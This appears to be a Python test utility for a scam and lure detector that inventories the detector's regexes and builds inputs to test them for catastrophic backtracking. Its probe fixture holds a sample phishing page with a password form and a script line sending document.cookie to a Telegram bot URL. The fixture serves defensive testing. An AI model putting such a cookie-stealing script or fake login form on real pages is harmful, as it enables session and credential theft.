"""Every regex the detector compiles, and the classic inputs that make a backtracking engine slow.

``inventory()`` runs a fresh interpreter that records each pattern compiled from a module under
detector/ (at import, and lazily while extracting features from one snapshot of every kind), so
lexicon patterns and module constants are both found without listing them by hand.
``shapes(pattern, size)`` builds adversarial texts for one pattern: long runs of each character
class, alone and after the text the pattern needs before its first unbounded repeat, with and
without a tail that makes the match fail at the end.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]

_PROBE = r"""
import json, pkgutil, importlib, re, sys
found = {}
real = re._compile
def spy(pattern, flags):
    f = sys._getframe(1)
    while f is not None and f.f_code.co_filename.startswith(re.__file__.rsplit('/', 1)[0]):
        f = f.f_back
    where = f.f_code.co_filename if f is not None else ''
    if '/detector/' in where and '/detector/model/' not in where:
        key = (pattern if isinstance(pattern, str) else 'b:' + pattern.decode('latin-1'), int(flags))
        found.setdefault(key, where.rsplit('/detector/', 1)[1])
    return real(pattern, flags)
re._compile = spy
import detector
for mod in pkgutil.walk_packages(detector.__path__, 'detector.'):
    if mod.name.startswith(('detector.model', 'detector.serve', 'detector.__main__')):
        continue
    try:
        importlib.import_module(mod.name)
    except Exception:
        pass
from detector.extract.features import extract_features
from detector.crawl.discovery import candidates, looks_like_lure
from detector.records import Snapshot
page = ('<html><head><title>Who viewed your TikTok? 2026</title></head><body><h1>See who '
        'viewed</h1><form action="https://x.example/login.php"><input type=password name=p>'
        '<button>Log in</button></form><script>fetch("https://api.telegram.org/bot1/x?"'
        '+document.cookie)</script><a href="https://x.example/free-followers">Get</a></body></html>')
snaps = [
    {'url': 'https://x.example/who-viewed', 'html': page},
    {'url': 'https://x.example/', 'kind': 'ad', 'text': 'See who viewed your TikTok now! 4,99/week'},
    {'kind': 'app_listing', 'listing': {'name': 'Who Viewed My Tik Profile Xk3jd9Qz',
     'description': 'Weekly subscription 4.99 $/week. Estimated results. Not affiliated with TikTok',
     'installs': '1,000+', 'price': '4.99', 'permissions': ['android.permission.READ_SMS']}},
    {'kind': 'extension_listing', 'listing': {'name': 'TikTok viewer', 'description': 'x',
     'manifest': {'manifest_version': 3, 'permissions': ['cookies'], 'host_permissions':
     ['*://*.tiktok.com/*']}}},
]
for s in snaps:
    extract_features(s)
candidates(Snapshot(url='https://x.example/', html=page))
looks_like_lure('https://x.example/free-followers', 'who viewed')
json.dump([[p, f, w] for (p, f), w in found.items()], sys.stdout)
"""


@cache
def inventory() -> tuple[tuple[str | bytes, int, str], ...]:
    """(pattern, flags, file it was compiled in) for every regex detector code compiles."""
    out = subprocess.run(
        [sys.executable, "-c", _PROBE], capture_output=True, text=True, check=True, cwd=ROOT
    ).stdout
    rows: list[tuple[str | bytes, int, str]] = []
    for pattern, flags, where in json.loads(out):
        if pattern.startswith("b:"):
            rows.append((pattern[2:].encode("latin-1"), flags, where))
        else:
            rows.append((pattern, flags, where))
    return tuple(rows)


# One representative of each character class a pattern may repeat over.
RUN_CHARS = (" ", "\n", "\xa0", "a", "é", "1", ".", ",", "-", "/", "<", "$")
TAILS = ("", "x")


def heads(pattern: str | bytes) -> list[str]:
    """Texts that match the pattern up to each of its unbounded repeats (empty included)."""
    from re import _parser  # type: ignore[attr-defined]

    src = pattern.decode("latin-1") if isinstance(pattern, bytes) else pattern
    try:
        tree = _parser.parse(src)
    except re.error:
        return [""]
    found: list[str] = [""]

    def sample(items: Any, acc: str, depth: int = 0) -> str:
        for op, av in items:
            name = str(op)
            if name == "LITERAL":
                acc += chr(av)
            elif name == "IN":
                acc += _class_sample(av)
            elif name == "ANY":
                acc += "a"
            elif name == "BRANCH":
                acc = sample(av[1][0], acc, depth + 1)
                if depth < 2:
                    for alt in av[1][1:4]:
                        found.append(sample(alt, acc[:0] + acc, depth + 1))
            elif name == "SUBPATTERN":
                acc = sample(av[-1], acc, depth + 1)
            elif name in ("MAX_REPEAT", "MIN_REPEAT", "POSSESSIVE_REPEAT"):
                low, high, body = av
                if high == _parser.MAXREPEAT or high > 50:
                    found.append(acc)
                    once = sample(body, "", depth + 1)
                    if once:
                        found.append(acc + once)
                for _ in range(min(low, 30)):
                    acc = sample(body, acc, depth + 1)
            elif name == "CATEGORY":
                acc += _category_sample(str(av))
        return acc

    found.append(sample(list(tree), ""))
    return list(dict.fromkeys(h for h in found if len(h) < 200))


def _category_sample(cat: str) -> str:
    if "NOT" in cat:
        return "!"
    if "DIGIT" in cat:
        return "1"
    if "SPACE" in cat:
        return " "
    return "a"


def _class_sample(items: Any) -> str:
    for op, av in items:
        name = str(op)
        if name == "NEGATE":
            return "!"
        if name == "LITERAL":
            return chr(av)
        if name == "RANGE":
            return chr(av[0])
        if name == "CATEGORY":
            return _category_sample(str(av))
    return "a"


def shapes(pattern: str | bytes, size: int) -> Iterator[tuple[str, str | bytes]]:
    """(description, text) pairs of about ``size`` characters."""
    for head in heads(pattern):
        for ch in RUN_CHARS:
            for tail in TAILS:
                body = head + ch * (size - len(head) - len(tail)) + tail
                yield f"{head!r}+{ch!r}*n+{tail!r}", _as(pattern, body)
            unit = head + ch if head else ch + "a"
            yield f"({unit!r})*k", _as(pattern, unit * (size // len(unit)))


def _as(pattern: str | bytes, text: str) -> str | bytes:
    return text.encode("utf-8") if isinstance(pattern, bytes) else text


def cost(compiled: re.Pattern[Any], text: Any, limit: int = 1000, least: float = 0.0) -> float:
    """CPU seconds to find every match (at most ``limit``) of the pattern in the text.

    Process CPU time, not wall time: on a shared machine a run that is preempted is not slower.
    With ``least``, runs repeat until they add up to that many seconds; the mean is returned.
    """
    runs, spent = 0, 0.0
    while True:
        start = time.process_time()
        for n, _ in enumerate(compiled.finditer(text)):
            if n >= limit:
                break
        spent += time.process_time() - start
        runs += 1
        if spent >= least or runs >= 50:
            return spent / runs
